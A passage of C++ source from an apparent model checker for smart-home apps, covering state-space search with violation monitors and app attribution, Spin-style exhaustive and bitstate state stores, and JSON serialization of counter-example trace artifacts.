  model::CascadeEngine engine_;
  std::unique_ptr<StateStore> store_;
  CheckResult result_;
  Clock::time_point start_;
  bool stopped_ = false;
  // Handed to the cascade engine so budgets are honored between drains.
  model::CancelFn cancel_;

  // Current DFS path context: counter-example lines, and causality data
  // for violation charging — which app actuated which device, and which
  // apps changed the location mode, along the path.
  std::vector<std::string> path_trace_;
  std::vector<std::pair<int, int>> path_actuations_;
  std::vector<int> path_mode_setters_;

  bool BudgetExceeded() {
    if (stopped_) return true;
    if (options_.max_states != 0 &&
        result_.states_explored >= options_.max_states) {
      result_.completed = false;
      stopped_ = true;
    }
    if (options_.time_budget_seconds > 0) {
      const double elapsed =
          std::chrono::duration<double>(Clock::now() - start_).count();
      if (elapsed > options_.time_budget_seconds) {
        result_.completed = false;
        stopped_ = true;
      }
    }
    return stopped_;
  }

  double Elapsed() const {
    return std::chrono::duration<double>(Clock::now() - start_).count();
  }

  telemetry::ProgressSnapshot ProgressNow() const {
    telemetry::ProgressSnapshot snapshot;
    snapshot.states_explored = result_.states_explored;
    snapshot.states_matched = result_.states_matched;
    snapshot.transitions = result_.transitions;
    snapshot.cascade_drains = result_.cascade_drains;
    snapshot.elapsed_seconds = Elapsed();
    snapshot.states_per_second =
        snapshot.elapsed_seconds > 0
            ? static_cast<double>(result_.states_explored) /
                  snapshot.elapsed_seconds
            : 0;
    const double considered = static_cast<double>(result_.states_explored +
                                                  result_.states_matched);
    snapshot.pruning_ratio =
        considered > 0
            ? static_cast<double>(result_.states_matched) / considered
            : 0;
    snapshot.store_fill_ratio = store_->FillRatio();
    snapshot.depth_histogram = result_.depth_histogram;
    return snapshot;
  }

  void EmitProgress() {
    options_.on_progress(ProgressNow());
    if (auto* t = telemetry::Active()) ++t->search.progress_reports;
  }

  void FinishDiagnostics() {
    result_.store_entries = store_->size();
    result_.store_memory_bytes = store_->memory_bytes();
    result_.store_fill_ratio = store_->FillRatio();
    result_.est_omission_probability = store_->EstOmissionProbability();
    if (options_.store == StoreKind::kBitstate &&
        result_.store_fill_ratio > 0.5) {
      // Spin's rule of thumb: above 50% occupancy BITSTATE coverage is
      // unreliable — a saturated bit field silently under-reports
      // violations.
      std::fprintf(stderr,
                   "warning: bitstate store is %.0f%% full (est. omission "
                   "probability %.2g); coverage is unreliable, increase "
                   "bitstate_bits\n",
                   result_.store_fill_ratio * 100.0,
                   result_.est_omission_probability);
    }
    // The final snapshot at stop time: budget-stopped runs still report
    // where the search stood.
    if (!result_.completed && options_.on_progress) EmitProgress();
    if (auto* t = telemetry::Active()) {
      t->search.states_explored += result_.states_explored;
      t->search.states_matched += result_.states_matched;
      t->search.transitions += result_.transitions;
      t->search.cascade_drains += result_.cascade_drains;
      t->search.violations_recorded += result_.violations.size();
      if (!result_.completed) ++t->search.budget_stops;
      ++t->pipeline.checks_run;
      t->store.entries = result_.store_entries;
      t->store.memory_bytes = result_.store_memory_bytes;
      t->store.fill_permille =
          static_cast<std::uint64_t>(result_.store_fill_ratio * 1000.0);
      t->store.omission_ppm = static_cast<std::uint64_t>(
          result_.est_omission_probability * 1e6);
    }
  }

  Violation* RecordViolation(const props::Property& property, int depth,
                             const std::string& failure_label,
                             const std::vector<std::string>& extra_trace,
                             const std::set<int>& charged_apps) {
    for (Violation& existing : result_.violations) {
      if (existing.property_id == property.id) {
        ++existing.occurrences;
        // Keep the first counter-example but accumulate every charged
        // app across re-violations: attribution (§9) needs to know all
        // apps that can drive the system into this bad state.
        for (int app : charged_apps) {
          const std::string& label = model_.apps()[app].config.label;
          bool known = false;
          for (const std::string& existing_app : existing.apps) {
            known = known || existing_app == label;
          }
          if (!known) existing.apps.push_back(label);
        }
        return nullptr;
      }
    }
    Violation violation;
    violation.property_id = property.id;
    violation.category = property.category;
    violation.description = property.description;
    violation.kind = property.kind;
    violation.trace = path_trace_;
    violation.trace.insert(violation.trace.end(), extra_trace.begin(),
                           extra_trace.end());
    for (int app : charged_apps) {
      violation.apps.push_back(model_.apps()[app].config.label);
    }
    violation.failure = failure_label;
    violation.depth = depth;
    result_.violations.push_back(std::move(violation));
    if (options_.stop_at_first_violation) {
      stopped_ = true;
      result_.completed = false;  // the search was cut short on purpose
    }
    return &result_.violations.back();
  }

  /// Apps responsible for an invariant violation: those that actuated a
  /// device carrying one of the property's roles along the path, plus —
  /// when the property reads the location mode — the apps that changed
  /// the mode.
  std::set<int> ChargedApps(const props::Property& property) const {
    std::set<int> charged;
    for (const auto& [app, device] : path_actuations_) {
      for (const std::string& role : property.roles) {
        if (model_.devices()[device].HasRole(role)) {
          charged.insert(app);
          break;
        }
      }
    }
    if (props::ReferencesMode(property.ParsedExpression())) {
      charged.insert(path_mode_setters_.begin(), path_mode_setters_.end());
    }
    return charged;
  }

  void CheckInvariants(const model::SystemState& state, int depth,
                       const std::string& failure_label) {
    model::ModelStateView view(model_, state);
    for (const props::Property& property : model_.active_properties()) {
      if (stopped_) return;
      if (property.kind != props::PropertyKind::kInvariant) continue;
      if (auto* t = telemetry::Active()) ++t->search.invariant_evals;
      if (props::EvalPropertyExpr(property.ParsedExpression(), view)) {
        continue;
      }
      std::vector<std::string> assertion = {
          "assertion violated: " + property.description + " (" +
          property.id + ")"};
      RecordViolation(property, depth, failure_label, assertion,
                      ChargedApps(property));
    }
  }

  bool MonitorActive(props::PropertyKind kind) const {
    for (const props::Property& property : model_.active_properties()) {
      if (property.kind == kind) return true;
    }
    return false;
  }

  const props::Property& MonitorProperty(props::PropertyKind kind) const {
    for (const props::Property& property : model_.active_properties()) {
      if (property.kind == kind) return property;
    }
    throw Error("monitor property not active");
  }

  void RunMonitors(const model::CascadeLog& log, int depth,
                   const model::FailureScenario& failure) {
    if (stopped_) return;
    const std::string failure_label = failure.Any() ? failure.Label() : "";

    // Conflicting / repeated commands (Algorithm 1, line 16).
    if (MonitorActive(props::PropertyKind::kNoConflict)) {
      for (std::size_t i = 0;
           i < log.commands.size() &&
           !MonitorTriggered(props::PropertyKind::kNoConflict);
           ++i) {
        for (std::size_t j = i + 1; j < log.commands.size(); ++j) {
          const model::CommandRecord& a = log.commands[i];
          const model::CommandRecord& b = log.commands[j];
          if (a.device != b.device) continue;
          const bool conflicting =
              std::find(a.spec->conflicts_with.begin(),
                        a.spec->conflicts_with.end(),
                        b.spec->name) != a.spec->conflicts_with.end();
          if (!conflicting) continue;
          std::vector<std::string> detail = log.trace;
          detail.push_back("conflicting commands on " +
                           model_.devices()[a.device].id() + ": " +
                           a.spec->name + " vs " + b.spec->name);
          RecordViolation(MonitorProperty(props::PropertyKind::kNoConflict),
                          depth, failure_label, detail, {a.app, b.app});
          break;
        }
      }
    }
    if (MonitorActive(props::PropertyKind::kNoRepeat)) {
      for (std::size_t i = 0;
           i < log.commands.size() &&
           !MonitorTriggered(props::PropertyKind::kNoRepeat);
           ++i) {
        for (std::size_t j = i + 1; j < log.commands.size(); ++j) {
          const model::CommandRecord& a = log.commands[i];
          const model::CommandRecord& b = log.commands[j];
          if (a.device != b.device || a.spec->name != b.spec->name ||
              a.value_index != b.value_index) {
            continue;
          }
          std::vector<std::string> detail = log.trace;
          detail.push_back("repeated command on " +
                           model_.devices()[a.device].id() + ": " +
                           a.spec->name + " received twice");
          RecordViolation(MonitorProperty(props::PropertyKind::kNoRepeat),
                          depth, failure_label, detail, {a.app, b.app});
          break;
        }
      }
    }

    for (const model::ApiCallRecord& api : log.api_calls) {
      if (stopped_) return;
      switch (api.kind) {
        case model::ApiCallRecord::Kind::kHttp:
          if (!model_.deployment().allow_network_interfaces &&
              MonitorActive(props::PropertyKind::kNoNetworkLeak)) {
            std::vector<std::string> detail = log.trace;
            detail.push_back("network interface used: " + api.detail);
            RecordViolation(
                MonitorProperty(props::PropertyKind::kNoNetworkLeak), depth,
                failure_label, detail, {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kSms:
          if (api.recipient_mismatch &&
              MonitorActive(props::PropertyKind::kSmsRecipient)) {
            std::vector<std::string> detail = log.trace;
            detail.push_back("SMS recipient '" + api.detail +
                             "' does not match the configured contact");
            RecordViolation(
                MonitorProperty(props::PropertyKind::kSmsRecipient), depth,
                failure_label, detail, {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kUnsubscribe:
          if (MonitorActive(props::PropertyKind::kNoSensitiveCmd)) {
            std::vector<std::string> detail = log.trace;
            detail.push_back("security-sensitive command: unsubscribe()");
            RecordViolation(
                MonitorProperty(props::PropertyKind::kNoSensitiveCmd), depth,
                failure_label, detail, {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kFakeEvent:
          if (MonitorActive(props::PropertyKind::kNoFakeEvent)) {
            std::vector<std::string> detail = log.trace;
            detail.push_back("fake event injected: " + api.detail);
            RecordViolation(
                MonitorProperty(props::PropertyKind::kNoFakeEvent), depth,
                failure_label, detail, {api.app});
          }
          break;
        case model::ApiCallRecord::Kind::kPush:
          break;
      }
    }

    // Robustness: a command was lost to a failure and the user was never
    // notified (§8's robustness property).
    if (failure.Any() && log.failed_deliveries > 0 && !log.user_notified &&
        MonitorActive(props::PropertyKind::kRobustness)) {
      std::vector<std::string> detail = log.trace;
      detail.push_back(std::to_string(log.failed_deliveries) +
                       " command(s) lost to " + failure.Label() +
                       " with no user notification");
      std::set<int> losers;
      for (const model::CommandRecord& cmd : log.commands) {
        if (!cmd.delivered) losers.insert(cmd.app);
      }
      RecordViolation(MonitorProperty(props::PropertyKind::kRobustness),
                      depth, failure_label, detail, losers);
    }
  }

  bool MonitorTriggered(props::PropertyKind kind) const {
    for (const Violation& v : result_.violations) {
      if (v.kind == kind) return true;
    }
    return false;
  }

  void Explore(const model::SystemState& state, int depth) {
    if (BudgetExceeded()) return;
    ++result_.states_explored;
    ++result_.depth_histogram[static_cast<std::size_t>(depth)];
    if (options_.progress_every != 0 && options_.on_progress &&
        result_.states_explored % options_.progress_every == 0) {
      EmitProgress();
    }
    if (depth >= options_.max_events) return;

    const auto& scenarios = options_.model_failures
                                ? model::FailureScenario::AllScenarios()
                                : model::FailureScenario::NoFailure();

    for (const model::ExternalEvent& event : engine_.EnabledEvents(state)) {
      for (const model::FailureScenario& failure : scenarios) {
        if (BudgetExceeded()) return;
        std::vector<model::StepOutcome> outcomes = engine_.Apply(
            state, event, failure, options_.scheduling, cancel_);
        result_.cascade_drains += outcomes.size();
        for (model::StepOutcome& outcome : outcomes) {
          if (BudgetExceeded()) return;
          ++result_.transitions;

          // Extend the path context for this step.
          const std::size_t trace_mark = path_trace_.size();
          path_trace_.push_back(
              "== event " + std::to_string(depth + 1) + ": " +
              event.Describe(model_) +
              (failure.Any() ? " [" + failure.Label() + "]" : ""));
          for (const std::string& line : outcome.log.trace) {
            path_trace_.push_back("   " + line);
          }
          const std::size_t actuation_mark = path_actuations_.size();
          const std::size_t mode_mark = path_mode_setters_.size();
          path_actuations_.insert(path_actuations_.end(),
                                  outcome.log.actuations.begin(),
                                  outcome.log.actuations.end());
          path_mode_setters_.insert(path_mode_setters_.end(),
                                    outcome.log.mode_setters.begin(),
                                    outcome.log.mode_setters.end());

          RunMonitors(outcome.log, depth + 1, failure);
          CheckInvariants(outcome.state, depth + 1,
                          failure.Any() ? failure.Label() : "");

          std::vector<std::uint8_t> bytes = outcome.state.Serialize();
          if (options_.include_depth_in_state) {
            bytes.push_back(static_cast<std::uint8_t>(depth + 1));
          }
          if (store_->TestAndInsert(bytes)) {
            ++result_.states_matched;
          } else {
            Explore(outcome.state, depth + 1);
          }

          // Restore path context.
          path_trace_.resize(trace_mark);
          path_actuations_.resize(actuation_mark);
          path_mode_setters_.resize(mode_mark);
        }
      }
    }
  }
};

}  // namespace

CheckResult Checker::Run(const CheckOptions& options) const {
  return Search(model_, options).Run();
}

std::string FormatViolation(const Violation& violation) {
  std::string out;
  out += "violated property " + violation.property_id + " [" +
         violation.category + "]\n";
  out += "  safe state: " + violation.description + "\n";
  if (!violation.failure.empty()) {
    out += "  failure scenario: " + violation.failure + "\n";
  }
  if (!violation.apps.empty()) {
    out += "  involved apps: (";
    for (std::size_t i = 0; i < violation.apps.size(); ++i) {
      if (i > 0) out += ", ";
      out += violation.apps[i];
    }
    out += ")\n";
  }
  out += "  counter-example (" + std::to_string(violation.depth) +
         " external event(s), seen " + std::to_string(violation.occurrences) +
         "x):\n";
  for (const std::string& line : violation.trace) {
    out += "    " + line + "\n";
  }
  return out;
}

}  // namespace iotsan::checker
