// Visited-state stores (paper §2.3).
//
// The checker prunes states it has already expanded.  Two storage
// strategies are provided, mirroring Spin:
//   * ExhaustiveStore — keeps full serialized state vectors; exact, but
//     memory grows with the state space.
//   * BitstateStore — Spin's BITSTATE hashing: k hash functions set bits
//     in a fixed bit field.  False positives ("seen" for a new state) are
//     possible, trading completeness for constant memory; the paper uses
//     this mode for large systems.
//
// Both stores support concurrent TestAndInsert so parallel search
// workers can share one pruning frontier: the exhaustive store shards
// its hash set (one mutex per shard, shard picked from the state hash),
// the bitstate store is lock-free (atomic fetch_or on the bit field).
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "util/bitarray.hpp"

namespace iotsan::checker {

class StateStore {
 public:
  virtual ~StateStore() = default;

  /// Records `bytes`; returns true if it was (possibly) seen before.
  /// Safe to call from multiple threads concurrently.
  virtual bool TestAndInsert(std::span<const std::uint8_t> bytes) = 0;

  /// Number of distinct states recorded (exact for exhaustive; equals the
  /// number of inserts that were new for bitstate).
  virtual std::uint64_t size() const = 0;

  /// Bytes of memory used by the store (approximate for exhaustive).
  virtual std::uint64_t memory_bytes() const = 0;

  /// Fraction of the store's fixed capacity in use: bit occupancy for
  /// BITSTATE, 0 for the unbounded exhaustive store.
  virtual double FillRatio() const { return 0; }

  /// Estimated probability that TestAndInsert misreported a genuinely
  /// new state as seen (Spin's -w omission concern).  Exact stores never
  /// omit, so the base answer is 0.
  virtual double EstOmissionProbability() const { return 0; }
};

class ExhaustiveStore final : public StateStore {
 public:
  /// `shard_count` hash-set shards, each behind its own mutex; the shard
  /// is chosen from the top bits of the state hash so it stays
  /// independent of the bucket index within the shard.  1 shard = the
  /// classic single-set store (still thread-safe, just contended).
  explicit ExhaustiveStore(unsigned shard_count = 1);

  bool TestAndInsert(std::span<const std::uint8_t> bytes) override;
  std::uint64_t size() const override;
  std::uint64_t memory_bytes() const override;

 private:
  // Transparent hashing lets TestAndInsert probe with a string_view over
  // the caller's buffer; only genuinely new states pay the std::string
  // allocation.
  struct TransparentHash {
    using is_transparent = void;
    std::size_t operator()(std::string_view key) const;
  };
  struct Shard {
    mutable std::mutex mutex;
    std::unordered_set<std::string, TransparentHash, std::equal_to<>> states;
    std::uint64_t memory = 0;
  };

  std::vector<std::unique_ptr<Shard>> shards_;
};

/// Arena-backed byte-vector interning for COLLAPSE state compression
/// (Spin's -DCOLLAPSE): each distinct component serialization (one
/// device's sub-vector, one app's `state` map, the timer list) is stored
/// once and addressed by a dense index, so a stored state shrinks to a
/// short tuple of pool indices.
///
/// Thread-safe like ExhaustiveStore: the shard is picked from the top
/// bits of the component hash, each shard guards its map with a mutex,
/// and interned bytes live in per-shard bump-allocated arena blocks
/// (stable addresses — the map keys are views into the arenas).  Indices
/// are dense (one shared counter) and stable for the pool's lifetime but
/// NOT deterministic across runs or thread schedules; store keys built
/// from them are only compared within one run, which is all the visited
/// set needs.
class InternPool {
 public:
  explicit InternPool(unsigned shard_count = 1);

  /// Index of `bytes`, interning a copy on first sight.  Equal byte
  /// vectors always yield the same index; distinct vectors never share
  /// one.
  std::uint32_t Intern(std::span<const std::uint8_t> bytes);

  /// Distinct entries interned.
  std::uint64_t size() const;
  /// Arena bytes plus per-entry index overhead.
  std::uint64_t memory_bytes() const;
  std::uint64_t lookups() const {
    return lookups_.load(std::memory_order_relaxed);
  }
  /// Lookups served by an existing entry.
  std::uint64_t hits() const { return hits_.load(std::memory_order_relaxed); }

 private:
  struct ViewHash {
    std::size_t operator()(std::string_view key) const;
  };
  struct Shard {
    mutable std::mutex mutex;
    std::unordered_map<std::string_view, std::uint32_t, ViewHash> entries;
    /// Bump arenas owning the key bytes (block addresses never move).
    std::vector<std::unique_ptr<std::uint8_t[]>> blocks;
    std::size_t block_used = 0;
    std::size_t block_size = 0;
    std::uint64_t memory = 0;
  };

  std::vector<std::unique_ptr<Shard>> shards_;
  std::atomic<std::uint32_t> next_index_{0};
  std::atomic<std::uint64_t> lookups_{0};
  std::atomic<std::uint64_t> hits_{0};
};

class BitstateStore final : public StateStore {
 public:
  /// `bit_count` is the size of the bit field (Spin's -w); `hash_count`
  /// the number of hash functions (Spin's default is 3).  A non-zero
  /// `seed` perturbs the hash family (Holzmann-swarm lane diversity:
  /// lanes with different seeds omit *different* states, so the union of
  /// their findings covers more of the space).  seed == 0 is the
  /// historical hash family, bit-for-bit.
  explicit BitstateStore(std::size_t bit_count, unsigned hash_count = 3,
                         std::uint64_t seed = 0);

  bool TestAndInsert(std::span<const std::uint8_t> bytes) override;
  std::uint64_t size() const override {
    return inserted_.load(std::memory_order_relaxed);
  }
  std::uint64_t memory_bytes() const override { return bits_.size() / 8; }

  /// Fraction of bits set; occupancy above ~0.5 means heavy hash
  /// saturation and unreliable pruning.
  double Occupancy() const;

  double FillRatio() const override { return Occupancy(); }

  /// With fraction p of bits set and k independent hash functions, a new
  /// state is falsely reported as seen only when all k probed bits are
  /// already set: p^k under uniform hashing.  Above p ≈ 0.5 the estimate
  /// (and hence coverage claims) becomes unreliable — Spin's rule of
  /// thumb for growing -w.
  double EstOmissionProbability() const override;

 private:
  BitArray bits_;
  unsigned hash_count_;
  std::uint64_t seed_;
  std::atomic<std::uint64_t> inserted_{0};
};

}  // namespace iotsan::checker
