// Structured counter-example traces and violation artifacts.
//
// The Output Analyzer (paper §9, Fig. 7) attributes violations to bad
// apps or misconfigurations from the event sequences the checker finds.
// A flat string trace cannot be machine-read, diffed, or re-executed —
// and under BITSTATE hashing a reported trace should not be trusted
// until it has been re-run.  This header gives every counter-example a
// structured form:
//
//   * TraceStep — one external event along the path, with the firing
//     handlers, actuator commands, device attribute deltas, failure
//     flags, send failures, and queue depths observed while the cascade
//     drained.  Steps carry enough coordinates (device/attribute/value
//     names, interleaving index) to re-execute the exact permutation.
//   * RunManifest — everything needed to reproduce the run: tool
//     version and build info, the full CheckOptions, store kind/size,
//     the deployment fingerprint, and the app instances in the checked
//     model.
//   * ViolationArtifact — one JSON bundle per violation: manifest +
//     violated property + structured trace.  Serialized by the CLI's
//     --artifacts-dir, re-executed by Checker::Replay / --replay, and
//     inspected/diffed/exported by tools/iotsan_trace.
//
// All records serialize to/from util/json with deterministic key order,
// so identical runs produce byte-identical artifacts.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "util/json.hpp"

namespace iotsan::model {
class SystemModel;
struct SystemState;
}  // namespace iotsan::model

namespace iotsan::checker {

/// Schema identifier embedded in every artifact ("iotsan.violation/1").
inline constexpr const char* kArtifactSchema = "iotsan.violation/1";

/// One app event-handler invocation, in dispatch order.
struct TraceDispatch {
  std::string app;      // app instance label
  std::string handler;  // handler function name
  bool operator==(const TraceDispatch&) const = default;
};

/// One actuator command received during the step's cascade.
struct TraceCommand {
  std::string app;
  std::string device;
  std::string command;     // "unlock", "on", ...
  std::string value;       // resolved target value name ("" if none)
  bool delivered = true;   // false: lost to an offline actuator/comm fail
  bool operator==(const TraceCommand&) const = default;
};

/// One device-attribute (or location-mode) change caused by the step.
/// `space` distinguishes the cyber state apps see from the physical
/// ground truth — the two diverge exactly under sensor failures (§8).
struct TraceDelta {
  std::string device;     // device id, or "location" for the mode
  std::string attribute;  // attribute name, "mode", or "online"
  std::string from;
  std::string to;
  std::string space;      // "cyber" | "physical" | "both"
  bool operator==(const TraceDelta&) const = default;
};

/// One external-event step along a counter-example path (Fig. 7, made
/// machine-readable).  The event coordinates use stable names rather
/// than model indices so an artifact replays against a freshly built
/// model of the same deployment.
struct TraceStep {
  int index = 0;         // 1-based external-event number
  int sim_time_ms = 0;   // logical clock: each external event = 1000 ms
  /// External-event coordinates: kind is one of "sensor", "app_touch",
  /// "timer", "user_mode".
  std::string kind = "sensor";
  std::string device;     // sensor: device id
  std::string attribute;  // sensor: attribute name
  std::string value;      // sensor value name / target mode name
  std::string app;        // app_touch: app instance label
  std::string description;  // human rendering ("alicePresence: presence/…")
  /// Failure scenario in effect for this step (§8).
  bool sensor_offline = false;
  bool actuator_offline = false;
  bool comm_fail = false;
  /// Which internal-event interleaving the checker followed (always 0
  /// under sequential scheduling).
  int outcome_index = 0;
  /// Observations while the cascade drained.
  std::vector<TraceDispatch> dispatches;
  std::vector<TraceCommand> commands;
  std::vector<TraceDelta> deltas;
  std::vector<std::string> notes;  // Fig. 7-style log lines
  int failed_sends = 0;            // commands lost to the failure scenario
  bool user_notified = false;      // an SMS/push reached the user
  int queue_peak = 0;              // deepest pending cyber-event queue
  bool truncated = false;          // cascade hit the internal-event bound

  bool operator==(const TraceStep&) const = default;
};

/// Everything needed to re-execute the run that produced a violation.
struct RunManifest {
  std::string tool = "iotsan";
  std::string version;
  std::string compiler;
  std::string build_type;
  /// Deployment name and configuration fingerprint (config::
  /// DeploymentFingerprint): replaying against a different config is
  /// detected up-front instead of producing a confusing mismatch.
  std::string deployment;
  std::string config_hash;  // 16 hex digits
  /// App instance labels in the checked model (the related set): replay
  /// rebuilds the model from exactly these instances.
  std::vector<std::string> model_apps;
  /// Seed for any stochastic workload generation (0 = none involved).
  std::uint64_t rng_seed = 0;
  /// Correlation id of the server request that triggered this run (""
  /// for CLI runs): joins the artifact to the access-log line and the
  /// trace spans carrying the same id.
  std::string request_id;
  // ---- CheckOptions, in full ----
  int max_events = 3;
  std::string scheduling = "sequential";  // | "concurrent"
  bool model_failures = false;
  std::string store = "exhaustive";       // | "bitstate"
  std::uint64_t bitstate_bits = 0;        // 0 for exhaustive
  bool include_depth_in_state = true;
  /// Ample-set partial-order reduction was active; replays must match so
  /// recorded outcome indices resolve against the same reduced fan-out.
  bool por = false;
  /// COLLAPSE store-key compression was active (informational: the
  /// encoding never changes which states are visited).
  bool state_compression = false;
  bool stop_at_first_violation = false;
  std::uint64_t max_states = 0;
  double time_budget_seconds = 0;

  bool operator==(const RunManifest&) const = default;
};

/// One violation, fully self-describing: run manifest + violated
/// property + structured counter-example.
struct ViolationArtifact {
  RunManifest manifest;
  std::string property_id;
  std::string category;
  std::string description;
  std::string property_kind = "invariant";  // PropertyKind name
  std::string failure;  // failure scenario label ("" when none)
  std::string detail;   // final diagnosis line ("assertion violated: …")
  int depth = 0;        // external events consumed before the violation
  std::uint64_t occurrences = 1;
  std::vector<std::string> apps;  // charged app labels
  std::vector<TraceStep> steps;

  bool operator==(const ViolationArtifact&) const = default;
};

// ---- JSON (de)serialization --------------------------------------------------

json::Value ToJson(const TraceStep& step);
json::Value ToJson(const RunManifest& manifest);
json::Value ToJson(const ViolationArtifact& artifact);

/// Inverse of ToJson; throw iotsan::Error on malformed or
/// wrong-schema input.
TraceStep TraceStepFromJson(const json::Value& value);
RunManifest ManifestFromJson(const json::Value& value);
ViolationArtifact ArtifactFromJson(const json::Value& value);

/// Structural validation of a parsed artifact (`iotsan_trace verify`):
/// manifest sanity (tool == "iotsan", non-empty version, 16-hex config
/// fingerprint, known store/scheduling names, bitstate_bits consistent
/// with the store kind), violated-app labels a subset of the model
/// apps, and trace coherence (1-based sequential step indices, the
/// 1000 ms/event simulated clock, depth == step count).  Returns one
/// human-readable problem per defect; empty == valid.  When
/// `expected_config_hash` is non-empty it must equal the manifest's
/// (re-derived from a deployment file to catch artifact/config drift).
std::vector<std::string> ValidateArtifact(
    const ViolationArtifact& artifact,
    const std::string& expected_config_hash = "");

/// Computes the attribute/mode/online deltas between two states of the
/// same model (used by the checker when recording each step).
std::vector<TraceDelta> DiffStates(const model::SystemModel& model,
                                   const model::SystemState& before,
                                   const model::SystemState& after);

/// Legacy flat rendering of a structured trace: "== event N: …" headers
/// followed by the indented cascade notes, then `detail` (when set) as
/// the last line — the paper's Fig. 7 layout.
std::vector<std::string> FlattenTrace(const std::vector<TraceStep>& steps,
                                      const std::string& detail);

}  // namespace iotsan::checker
