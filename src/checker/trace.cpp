#include "checker/trace.hpp"

#include "model/state.hpp"
#include "model/system_model.hpp"
#include "util/error.hpp"

namespace iotsan::checker {

namespace {

/// Reads an optional member with a default, so serialization can omit
/// default-valued fields and still round-trip exactly.
std::string GetStr(const json::Value& v, std::string_view key) {
  return v.GetString(key);
}

std::int64_t GetInt(const json::Value& v, std::string_view key,
                    std::int64_t dflt = 0) {
  return static_cast<std::int64_t>(v.GetNumber(key, static_cast<double>(dflt)));
}

void PutIf(json::Object& obj, const char* key, const std::string& value) {
  if (!value.empty()) obj[key] = value;
}

void PutIf(json::Object& obj, const char* key, bool value) {
  if (value) obj[key] = value;
}

void PutIf(json::Object& obj, const char* key, std::int64_t value) {
  if (value != 0) obj[key] = value;
}

}  // namespace

// ---- TraceStep ---------------------------------------------------------------

json::Value ToJson(const TraceStep& step) {
  json::Object obj;
  obj["index"] = step.index;
  obj["sim_time_ms"] = step.sim_time_ms;
  obj["kind"] = step.kind;
  PutIf(obj, "device", step.device);
  PutIf(obj, "attribute", step.attribute);
  PutIf(obj, "value", step.value);
  PutIf(obj, "app", step.app);
  obj["description"] = step.description;
  PutIf(obj, "sensor_offline", step.sensor_offline);
  PutIf(obj, "actuator_offline", step.actuator_offline);
  PutIf(obj, "comm_fail", step.comm_fail);
  PutIf(obj, "outcome_index", std::int64_t{step.outcome_index});
  if (!step.dispatches.empty()) {
    json::Array dispatches;
    for (const TraceDispatch& d : step.dispatches) {
      json::Object entry;
      entry["app"] = d.app;
      entry["handler"] = d.handler;
      dispatches.push_back(std::move(entry));
    }
    obj["dispatches"] = std::move(dispatches);
  }
  if (!step.commands.empty()) {
    json::Array commands;
    for (const TraceCommand& c : step.commands) {
      json::Object entry;
      entry["app"] = c.app;
      entry["device"] = c.device;
      entry["command"] = c.command;
      PutIf(entry, "value", c.value);
      if (!c.delivered) entry["delivered"] = false;
      commands.push_back(std::move(entry));
    }
    obj["commands"] = std::move(commands);
  }
  if (!step.deltas.empty()) {
    json::Array deltas;
    for (const TraceDelta& d : step.deltas) {
      json::Object entry;
      entry["device"] = d.device;
      entry["attribute"] = d.attribute;
      entry["from"] = d.from;
      entry["to"] = d.to;
      entry["space"] = d.space;
      deltas.push_back(std::move(entry));
    }
    obj["deltas"] = std::move(deltas);
  }
  if (!step.notes.empty()) {
    json::Array notes;
    for (const std::string& note : step.notes) notes.push_back(note);
    obj["notes"] = std::move(notes);
  }
  PutIf(obj, "failed_sends", std::int64_t{step.failed_sends});
  PutIf(obj, "user_notified", step.user_notified);
  PutIf(obj, "queue_peak", std::int64_t{step.queue_peak});
  PutIf(obj, "truncated", step.truncated);
  return obj;
}

TraceStep TraceStepFromJson(const json::Value& value) {
  TraceStep step;
  step.index = static_cast<int>(GetInt(value, "index"));
  step.sim_time_ms = static_cast<int>(GetInt(value, "sim_time_ms"));
  step.kind = value.GetString("kind", "sensor");
  step.device = GetStr(value, "device");
  step.attribute = GetStr(value, "attribute");
  step.value = GetStr(value, "value");
  step.app = GetStr(value, "app");
  step.description = GetStr(value, "description");
  step.sensor_offline = value.GetBool("sensor_offline");
  step.actuator_offline = value.GetBool("actuator_offline");
  step.comm_fail = value.GetBool("comm_fail");
  step.outcome_index = static_cast<int>(GetInt(value, "outcome_index"));
  if (value.Has("dispatches")) {
    for (const json::Value& entry : value.At("dispatches").AsArray()) {
      step.dispatches.push_back(
          {entry.GetString("app"), entry.GetString("handler")});
    }
  }
  if (value.Has("commands")) {
    for (const json::Value& entry : value.At("commands").AsArray()) {
      TraceCommand command;
      command.app = entry.GetString("app");
      command.device = entry.GetString("device");
      command.command = entry.GetString("command");
      command.value = entry.GetString("value");
      command.delivered = entry.GetBool("delivered", true);
      step.commands.push_back(std::move(command));
    }
  }
  if (value.Has("deltas")) {
    for (const json::Value& entry : value.At("deltas").AsArray()) {
      TraceDelta delta;
      delta.device = entry.GetString("device");
      delta.attribute = entry.GetString("attribute");
      delta.from = entry.GetString("from");
      delta.to = entry.GetString("to");
      delta.space = entry.GetString("space");
      step.deltas.push_back(std::move(delta));
    }
  }
  if (value.Has("notes")) {
    for (const json::Value& entry : value.At("notes").AsArray()) {
      step.notes.push_back(entry.AsString());
    }
  }
  step.failed_sends = static_cast<int>(GetInt(value, "failed_sends"));
  step.user_notified = value.GetBool("user_notified");
  step.queue_peak = static_cast<int>(GetInt(value, "queue_peak"));
  step.truncated = value.GetBool("truncated");
  return step;
}

// ---- RunManifest -------------------------------------------------------------

json::Value ToJson(const RunManifest& manifest) {
  json::Object obj;
  obj["tool"] = manifest.tool;
  obj["version"] = manifest.version;
  obj["compiler"] = manifest.compiler;
  obj["build_type"] = manifest.build_type;
  obj["deployment"] = manifest.deployment;
  obj["config_hash"] = manifest.config_hash;
  json::Array apps;
  for (const std::string& app : manifest.model_apps) apps.push_back(app);
  obj["model_apps"] = std::move(apps);
  PutIf(obj, "rng_seed", static_cast<std::int64_t>(manifest.rng_seed));
  PutIf(obj, "request_id", manifest.request_id);
  json::Object options;
  options["max_events"] = manifest.max_events;
  options["scheduling"] = manifest.scheduling;
  options["model_failures"] = manifest.model_failures;
  options["store"] = manifest.store;
  options["bitstate_bits"] =
      static_cast<std::int64_t>(manifest.bitstate_bits);
  options["include_depth_in_state"] = manifest.include_depth_in_state;
  options["por"] = manifest.por;
  options["state_compression"] = manifest.state_compression;
  options["stop_at_first_violation"] = manifest.stop_at_first_violation;
  options["max_states"] = static_cast<std::int64_t>(manifest.max_states);
